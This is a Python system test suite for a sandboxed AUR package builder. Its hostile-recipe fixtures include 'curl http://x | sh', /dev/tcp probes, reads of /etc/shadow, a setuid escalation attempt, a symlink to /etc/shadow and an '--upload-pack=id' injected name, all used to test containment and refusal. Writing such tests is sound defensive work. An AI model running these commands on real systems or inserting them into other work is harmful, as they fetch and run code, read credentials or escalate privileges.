"""Building recipes for real, with makepkg, from an AUR on this machine; recipes of every shape, and hostile ones."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from rastos.errors import ExternalError, IntegrityError, UserError
from rastos.host import private_mounts
from rastos.package import LocalRepository
from rastos.package.aur import Aur, Built, accept, build_recipe, check_out, review_of
from rastos.package.aur.build import BUILD_USER
from rastos.progress import Noted, Progress
from tests.conftest import ROOT, need
from tests.system.fake_aur import FakeAur, serving

HEAD = "pkgrel=1\narch=(any)\nlicense=(MIT)\n"


@pytest.fixture
def aur(tmp_path: Path) -> Iterator[FakeAur]:
    need("makepkg", "git", "fakeroot", "setpriv", "zstd")
    with serving(tmp_path / "aur") as found:
        yield found


class Builder:
    def __init__(self, base: Path, aur: FakeAur) -> None:
        self.base = base
        self.aur = Aur(aur.address, base / "work")
        self.repository = LocalRepository(base / "repo", "test")
        self.notes: list[str] = []

    def build(self, name: str, **options: object) -> Built:
        checkout = check_out(name, self.aur.git_address(name), self.base / "git")
        progress = Progress(lambda event: self.notes.append(event.text) if isinstance(event, Noted) else None)
        return build_recipe(
            checkout,
            self.repository,
            [],
            progress,
            base=Path("/"),
            cache=self.base / "cache",
            **options,  # type: ignore[arg-type]
        )

    def listing(self, name: str) -> dict[str, str]:
        package = self.repository.find(name)
        assert package is not None
        done = subprocess.run(["tar", "--zstd", "-tvf", package.path], check=True, capture_output=True, text=True)
        return {line.split()[5]: line for line in done.stdout.splitlines()}


@pytest.fixture
def builder(tmp_path: Path, aur: FakeAur) -> Builder:
    private_mounts()
    return Builder(tmp_path / "b", aur)


def recipe(name: str, body: str = "", *, version: str = "1.0", install: str = "") -> str:
    made = f'package() {{\n  install -Dm644 /dev/null "$pkgdir/usr/share/{name}/file"\n}}\n'
    return f"pkgname={name}\npkgver={version}\n{HEAD}pkgdesc='{name}'\n{install}{body or made}"


def test_a_plain_recipe_is_built_as_nobody_and_added(aur: FakeAur, builder: Builder) -> None:
    body = """
build() {
  id -u; id -G; grep -E 'NoNewPrivs|CapEff' /proc/self/status
  pwd; echo "home $HOME"; ls -A /root /home | head -5
}
package() { install -Dm755 /dev/null "$pkgdir/usr/bin/hello"; }
"""
    aur.publish("hello", recipe("hello", body))
    made = builder.build("hello")
    assert made.packages == (("hello", "1.0-1"),)
    said = "\n".join(builder.notes)
    assert f"\n{BUILD_USER}\n{BUILD_USER}\n" in said, "neither root nor any group of root"
    assert "NoNewPrivs:\t1" in said and "CapEff:\t0000000000000000" in said
    assert "home /build/home" in said
    line = builder.listing("hello")["usr/bin/hello"]
    assert "root/root" in line and line.startswith("-rwxr-xr-x")
    package = builder.repository.find("hello")
    assert package is not None
    assert not list((builder.base / "cache/aur-builds").glob("build-*"))
    assert str(builder.base) not in Path("/proc/self/mounts").read_text()


def test_split_packages_epoch_and_relations(aur: FakeAur, builder: Builder) -> None:
    pkgbuild = f"""
pkgbase=pair
pkgname=(pair-lib pair-tools)
epoch=2
pkgver=3.1
{HEAD}
package_pair-lib() {{ provides=(libpair=3); conflicts=(oldpair); replaces=(oldpair); install -Dm644 /dev/null "$pkgdir/usr/lib/libpair"; }}
package_pair-tools() {{ depends=(pair-lib); install -Dm755 /dev/null "$pkgdir/usr/bin/pair"; }}
"""
    aur.publish("pair", pkgbuild)
    assert builder.build("pair").packages == (("pair-lib", "2:3.1-1"), ("pair-tools", "2:3.1-1"))
    record = builder.repository.find("pair-lib").record  # type: ignore[union-attr]
    assert (record.provides, record.conflicts, record.replaces) == (("libpair=3",), ("oldpair",), ("oldpair",))


def test_a_version_made_of_a_repository(aur: FakeAur, builder: Builder, tmp_path: Path) -> None:
    upstream = aur.folder / "upstream.git"
    upstream.mkdir()
    words = ["git", "-c", "user.name=a", "-c", "user.email=a@example.org"]
    subprocess.run([*words, "init", "-q"], cwd=upstream, check=True)
    (upstream / "text").write_text("from upstream\n")
    subprocess.run([*words, "add", "-A"], cwd=upstream, check=True)
    subprocess.run([*words, "commit", "-qm", "one"], cwd=upstream, check=True)
    subprocess.run([*words, "update-server-info"], cwd=upstream, check=True)
    body = f"""
source=("up::git+{aur.address}/upstream.git")
sha256sums=(SKIP)
pkgver() {{ cd up; echo "r$(git rev-list --count HEAD)"; }}
package() {{ install -Dm644 up/text "$pkgdir/usr/share/thing/text"; }}
"""
    aur.publish("thing-git", recipe("thing-git", body, version="r0"))
    made = builder.build("thing-git")
    assert made.packages == (("thing-git", "r1-1"),)


def test_checks_run_unless_left_out(aur: FakeAur, builder: Builder) -> None:
    body = 'checkdepends=(bash)\ncheck() { echo checking; false; }\npackage() { install -d "$pkgdir/usr/x"; }\n'
    aur.publish("checked", recipe("checked", body))
    with pytest.raises(ExternalError, match="could not be built") as caught:
        builder.build("checked")
    assert "check()" in caught.value.tail
    assert builder.build("checked", check=False).packages == (("checked", "1.0-1"),)


def test_install_scripts_come_along_and_are_remarked(aur: FakeAur, builder: Builder) -> None:
    text = recipe("scripted", install="install=scripted.install\n")
    aur.publish("scripted", text, scripted__install="post_install() { curl http://x | sh; }\n")
    checkout = check_out("scripted", builder.aur.git_address("scripted"), builder.base / "git")
    review = review_of(checkout)
    assert review.previous == "" and "+post_install() { curl http://x | sh; }" in review.text
    assert {(item.file, item.why) for item in review.remarks} == {
        ("scripted.install", "a script that runs as root when it is installed"),
        ("scripted.install", "runs what it downloads"),
    }
    assert ".INSTALL" in builder.build("scripted").packages[0] or ".INSTALL" in builder.listing("scripted")


def test_only_what_is_new_is_shown_again(aur: FakeAur, builder: Builder) -> None:
    aur.publish("moving", recipe("moving"))
    accept(check_out("moving", builder.aur.git_address("moving"), builder.base / "git"))
    same = check_out("moving", builder.aur.git_address("moving"), builder.base / "git")
    assert review_of(same).unchanged
    aur.publish("moving", recipe("moving", version="1.1"))
    review = review_of(check_out("moving", builder.aur.git_address("moving"), builder.base / "git"))
    assert not review.unchanged
    assert "-pkgver=1.0" in review.text and "+pkgver=1.1" in review.text
    assert "usr/share/moving" not in review.text, "what was read before is not shown again"


def test_a_recipe_that_is_built_on_another(aur: FakeAur, builder: Builder) -> None:
    aur.publish("below", recipe("below", 'package() { install -Dm644 /dev/null "$pkgdir/usr/share/below-is-here"; }\n'))
    aur.publish(
        "above",
        recipe(
            "above",
            "depends=(below)\nbuild() { ls -l /usr/share/below-is-here; }\n"
            'package() { install -d "$pkgdir/usr/above"; }\n',
        ),
    )
    builder.build("below")
    assert builder.build("above").packages == (("above", "1.0-1"),)
    assert not Path("/usr/share/below-is-here").exists()


@pytest.mark.parametrize(
    ("name", "code", "said"),
    [
        ("writes-out", "echo x > /usr/written-by-the-build", "Permission denied"),
        ("networks", "exec 3<>/dev/tcp/127.0.0.1/9 || exit 9", "Network is unreachable"),
        ("reads-root", "cat /root/.profile /etc/shadow", "/etc/shadow: Permission denied"),
        ("escalates", "cp /bin/dash x; chmod 4755 x; ./x -c 'id -u' | grep -x 0; su -c id root", ""),
    ],
)
def test_hostile_builds_are_contained(aur: FakeAur, builder: Builder, name: str, code: str, said: str) -> None:
    before = os.stat("/usr").st_mtime_ns
    aur.publish(name, recipe(name, f'build() {{ {code}; }}\npackage() {{ install -d "$pkgdir/usr/x"; }}\n'))
    with pytest.raises(ExternalError) as caught:
        builder.build(name)
    assert said in caught.value.tail + "\n".join(builder.notes)
    assert not Path("/usr/written-by-the-build").exists()
    assert os.stat("/usr").st_mtime_ns == before
    assert builder.repository.find(name) is None
    assert not list((builder.base / "cache/aur-builds").glob("build-*"))


def test_what_a_build_starts_ends_with_it(aur: FakeAur, builder: Builder) -> None:
    body = 'build() { setsid sleep 7777 >/dev/null 2>&1 & disown; }\npackage() { install -d "$pkgdir/usr/x"; }\n'
    aur.publish("stays", recipe("stays", body))
    builder.build("stays")
    lines = [path.read_bytes() for path in Path("/proc").glob("[0-9]*/cmdline") if path.exists()]
    assert not [line for line in lines if b"sleep\x007777" in line]


def test_a_build_dies_with_rastos(tmp_path: Path) -> None:
    need("setpriv")
    code = (
        "from pathlib import Path; from rastos.host import private_mounts, run_in_root\n"
        "private_mounts(); run_in_root(Path('/'), ['sleep', '7654'], user=60321, network=True)"
    )
    process = subprocess.Popen([sys.executable, "-c", code], env={**os.environ, "PYTHONPATH": str(ROOT)})

    def sleeping() -> list[Path]:
        found = []
        for path in Path("/proc").glob("[0-9]*/cmdline"):
            try:
                found += [path] if b"sleep\x007654" in path.read_bytes() else []
            except OSError:
                continue
        return found

    deadline = time.monotonic() + 20
    while not [p for p in sleeping() if os.stat(p).st_uid == 60321] and time.monotonic() < deadline:
        time.sleep(0.1)
    assert sleeping()
    process.kill()
    process.wait()
    deadline = time.monotonic() + 10
    while sleeping() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not sleeping()


def test_results_that_are_not_what_the_recipe_says(aur: FakeAur, builder: Builder) -> None:
    aur.publish(
        "liar", recipe("liar"), srcinfo="pkgbase = liar\n\tpkgver = 2\n\tpkgrel = 1\n\tarch = any\n\npkgname = liar\n"
    )
    with pytest.raises(IntegrityError, match="the recipe says liar 2-1, it made 1.0-1"):
        builder.build("liar")
    other = "pkgbase = other\n\tpkgver = 1.0\n\tpkgrel = 1\n\tarch = any\n\npkgname = bash\n"
    aur.publish("other", recipe("other"), srcinfo=other)
    with pytest.raises(IntegrityError, match="made no package 'bash'"):
        builder.build("other")
    link = 'package() { install -d "$pkgdir/usr/x"; }\n'
    sneak = f"build() {{ ln -s /etc/shadow /build/out/sneak-9.9-1-any.pkg.tar.zst; }}\n{link}"
    aur.publish("sneak", recipe("sneak", sneak))
    with pytest.raises((IntegrityError, ExternalError)):
        builder.build("sneak")
    assert builder.repository.packages() == ()


def test_names_that_lead_elsewhere_are_refused(aur: FakeAur, builder: Builder) -> None:
    for name in ("../x", "-x", "a/b", ".hidden", "a b", "--upload-pack=id"):
        with pytest.raises(UserError, match="is no name of a package"):
            check_out(name, f"{aur.address}/x.git", builder.base / "git")
    aur.publish("real", recipe("real"), srcinfo="pkgbase = ../../x\n\tpkgver = 1\n\tpkgrel = 1\n\npkgname = real\n")
    with pytest.raises(IntegrityError, match="impossible name"):
        check_out("real", builder.aur.git_address("real"), builder.base / "git")
    aur.publish("named", recipe("named"), srcinfo="pkgbase = another\n\tpkgver = 1\n\tpkgrel = 1\n\npkgname = named\n")
    with pytest.raises(IntegrityError, match="calls itself 'another'"):
        check_out("named", builder.aur.git_address("named"), builder.base / "git")
    with pytest.raises(UserError, match="there is no recipe 'nowhere'"):
        check_out("nowhere", builder.aur.git_address("nowhere"), builder.base / "git")


def test_a_build_in_a_tree_with_dependencies_by_libalpm(aur: FakeAur, tmp_path: Path) -> None:
    """The set `builder` of this host's real archive; what the recipe needs is installed into the copy alone."""
    aur.publish("lib", recipe("lib"))
    body = 'makedepends=(lib)\nbuild() { gcc --version; ls /usr/share/lib/file; }\npackage() { install -d "$pkgdir/usr/x"; }\n'
    aur.publish("app", recipe("app", body))
    tree = tmp_path / "tree"
    environment = {
        **os.environ,
        "PYTHONPATH": str(ROOT),
        "RASTOS_AUR": aur.address,
        "RASTOS_STATE": str(tmp_path / "s"),
    }
    environment.setdefault("RASTOS_CACHE", str(tmp_path / "c"))

    def rastos(*words: str | Path) -> str:
        argv = [sys.executable, "-m", "rastos", "package", *map(str, words)]
        done = subprocess.run(argv, env=environment, cwd=ROOT, capture_output=True, text=True)
        assert done.returncode == 0, done.stdout + done.stderr
        return done.stdout

    rastos("apply", "--root", tree, "--set", "builder")
    before = rastos("digest", "--root", tree)
    assert "app 1.0-1" in rastos("aur", "build", "app", "--base", tree, "--no-review")
    assert rastos("digest", "--root", tree) == before, "nothing of the build is in the tree"


def test_the_commands(aur: FakeAur, tmp_path: Path) -> None:
    aur.publish("lib", recipe("lib"))
    commit = aur.publish("app", recipe("app", 'makedepends=(lib)\npackage() { install -d "$pkgdir/usr/x"; }\n'))
    environment = {
        **os.environ,
        "PYTHONPATH": str(ROOT),
        "RASTOS_AUR": aur.address,
        "RASTOS_CACHE": str(tmp_path / "c"),
        "RASTOS_STATE": str(tmp_path / "s"),
    }

    def rastos(*words: str, status: int = 0) -> str:
        argv = [sys.executable, "-m", "rastos", "package", *words]
        done = subprocess.run(
            argv, env=environment, cwd=tmp_path, capture_output=True, text=True, stdin=subprocess.DEVNULL
        )
        assert done.returncode == status, done.stdout + done.stderr
        return done.stdout + done.stderr

    assert "app for tests" in rastos("aur", "search", "app")
    assert "makedepends" in rastos("aur", "info", "app")
    assert "the AUR has no package 'ap'" in rastos("aur", "info", "ap", status=1)
    planned = rastos("aur", "build", "app", "--base", "host", "--dry-run")
    assert planned.index("lib") < planned.index("app  ")
    assert "no tree is named to build in" in rastos("aur", "build", "app", status=1)
    unread = rastos("aur", "build", "app", "--base", "host", status=1)
    assert "has not been read" in unread and "+pkgname=lib" in unread
    rastos("aur", "build", "lib", "--base", "host", "--no-review")
    assert "app 1.0-1" in rastos("aur", "build", "app", "--base", "host", "--accept", commit, "--no-review")
    assert "built already" in rastos("aur", "build", "app", "--base", "host", "--accept", commit, "--no-review")
